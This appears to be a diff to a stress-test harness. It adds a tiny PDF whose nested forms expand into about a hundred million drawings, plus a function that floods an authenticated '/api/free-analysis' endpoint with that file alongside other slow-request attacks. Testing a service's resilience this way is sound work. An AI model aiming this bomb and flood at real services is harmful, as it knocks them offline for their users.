@@ -28,6 +28,47 @@ const slowUpload = (token) =>
     2_000_000,
   ) + partHead;
 
+/** Nine small forms, each drawn ten times in the one before it: a hundred million drawings in two kilobytes. */
+function dearPdf() {
+  const [depth, width] = [9, 10];
+  const stream = (n, head, text) =>
+    `${n} 0 obj<<${head}/Length ${text.length}>>stream\n${text}\nendstream endobj\n`;
+  const form = (i) =>
+    i === depth
+      ? stream(10 + i, '/Type/XObject/Subtype/Form/BBox[0 0 9 9]', '0 0 1 1 re f')
+      : stream(
+          10 + i,
+          `/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F ${11 + i} 0 R>>>>`,
+          '/F Do '.repeat(width),
+        );
+  return [
+    '%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n',
+    '3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Contents 4 0 R/Resources<</XObject<</F 10 0 R>>>>>>endobj\n',
+    stream(4, '', '/F Do'),
+    ...Array.from({ length: depth + 1 }, (_, i) => form(i)),
+    'trailer<</Root 1 0 R>>\n%%EOF',
+  ].join('');
+}
+
+/** One account that sends such a file again and again, `count` at a time. */
+function flood(url, token, count) {
+  const stop = new AbortController();
+  const send = async () => {
+    while (!stop.signal.aborted) {
+      const form = new FormData();
+      form.set('resume', new Blob([dearPdf()], { type: 'application/pdf' }), 'cv.pdf');
+      form.set('jobDescriptionText', 'We are looking for a developer. '.repeat(10));
+      const init = { method: 'POST', headers: { authorization: `Bearer ${token}` }, body: form };
+      await fetch(`${url}/api/free-analysis`, { ...init, signal: stop.signal }).then(
+        (reply) => reply.arrayBuffer(),
+        () => {},
+      );
+    }
+  };
+  for (let i = 0; i < count; i += 1) void send();
+  return [{ destroy: () => stop.abort() }];
+}
+
 export const strangers = [
   { name: '200 slow bodies', attack: (url) => open(url, 200, 200, slowBody) },
   { name: '200 slow bodies of ten addresses', attack: (url) => open(url, 200, 20, slowBody) },
@@ -39,5 +80,10 @@ export const strangers = [
   {
     name: '500 headers without an end',
     attack: (url) => open(url, 500, 500, 'GET / HTTP/1.1\r\nHost: localhost\r\nX-A: '),
+  },
+  {
+    name: '30 dear files of one account, again and again',
+    calls: ['balance', 'read'],
+    attack: (url, token) => flood(url, token, 30),
   },
 ];
